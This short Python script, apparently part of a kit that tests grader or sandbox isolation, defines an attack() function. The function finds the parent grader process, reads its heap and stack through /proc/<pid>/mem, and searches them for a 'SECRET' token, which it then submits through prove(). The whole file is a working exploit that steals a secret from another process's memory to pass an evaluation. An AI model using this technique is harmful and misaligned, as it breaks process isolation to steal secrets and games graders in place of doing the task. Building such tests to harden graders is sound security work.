"""Looks for the secret in the grader's memory."""

import re
from pathlib import Path

from kit import parents, prove

SECRET = re.compile(rb"SECRET[0-9a-f]{24}")


def attack() -> None:
    grader = parents()[-1]
    with open(f"/proc/{grader}/mem", "rb", buffering=0) as memory:
        for line in Path(f"/proc/{grader}/maps").read_text().splitlines():
            if "rw-p" in line and ("[heap]" in line or "[stack]" in line):
                start, end = (int(one, 16) for one in line.split()[0].split("-"))
                memory.seek(start)
                if found := SECRET.search(memory.read(end - start)):
                    prove(found.group().decode())
                    return
